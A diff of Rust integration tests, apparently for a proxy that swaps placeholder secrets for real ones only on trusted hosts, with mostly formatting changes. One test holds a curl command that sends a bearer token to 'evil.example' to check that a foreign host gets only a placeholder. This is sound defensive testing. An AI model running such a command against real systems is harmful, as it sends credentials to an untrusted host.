@@ -39,7 +39,10 @@ impl Stage {
     }
 
     pub(super) fn within(world: Arc<World>) -> Result<Self> {
-        let product = Product::start(world)?;
+        Self::of(Product::start(world)?)
+    }
+
+    pub(super) fn of(product: Product) -> Result<Self> {
         let letters = fs::read_to_string("/proc/sys/kernel/random/uuid")?.replace('-', "");
         // With letters that addresses, forms and documents escape.
         let value = format!("v/{}+\"{}", &letters[..16], &letters.trim()[16..]);
@@ -89,7 +92,8 @@ impl Stage {
         let begun = Instant::now();
         loop {
             let log = self.product.run(&["net", "log", "box"])?;
-            if let Some(line) = log.lines().find(|line| words.iter().all(|word| line.contains(word)))
+            if let Some(line) =
+                log.lines().find(|line| words.iter().all(|word| line.contains(word)))
             {
                 return Ok(line.to_owned());
             }
@@ -161,10 +165,10 @@ fn python_and_node_trust_the_authority() -> Result<()> {
 
 #[test]
 fn bodies_are_swapped_whatever_their_pieces() -> Result<()> {
-    let Some(stage) = Stage::new("bodies_are_swapped_whatever_their_pieces")? else { return Ok(()) };
-    let post = |path: &str, how: &str| {
-        format!("curl -sS {how} 'https://{HOST}{path}'")
+    let Some(stage) = Stage::new("bodies_are_swapped_whatever_their_pieces")? else {
+        return Ok(());
     };
+    let post = |path: &str, how: &str| format!("curl -sS {how} 'https://{HOST}{path}'");
     let form = stage.shell(&post("/echo/form/plain", "--data-urlencode \"key=$TOKEN\""))?;
     let got = stage.check_swapped("/echo/form/plain", &form)?;
     let escaped = stage.value.replace('/', "%2F").replace('+', "%2B").replace('"', "%22");
@@ -216,7 +220,8 @@ fn answers_are_masked_in_every_form() -> Result<()> {
 fn another_host_gets_no_value() -> Result<()> {
     let Some(stage) = Stage::new("another_host_gets_no_value")? else { return Ok(()) };
     // Its TLS is not opened: it gets the placeholder, which means nothing there.
-    let script = "curl -sS -k -H \"Authorization: Bearer $TOKEN\" https://evil.example/echo/evil/plain";
+    let script =
+        "curl -sS -k -H \"Authorization: Bearer $TOKEN\" https://evil.example/echo/evil/plain";
     let said = stage.shell(script)?;
     ensure!(said.contains("infield_secret_TOKEN_") && !said.contains(&stage.value), "{said}");
     let got = stage.got("/echo/evil/plain")?;
@@ -303,7 +308,7 @@ fn what_cannot_be_trusted_is_not_opened() -> Result<()> {
     stage.set("TOKEN", "strange.allowed.example", &stage.value)?;
     let script = "curl -sS -k -H \"X-Key: $TOKEN\" https://strange.allowed.example/";
     let said = stage.shell(script)?;
-    ensure!(said.contains("UnknownIssuer"), "{said}");
+    ensure!(said.contains("invalid peer certificate"), "{said}");
     stage.set("TOKEN", HOST, &stage.value)?;
     // A client that trusts another authority alone cannot use a secret.
     let file = stage.product.world().authority().file().to_string_lossy().into_owned();
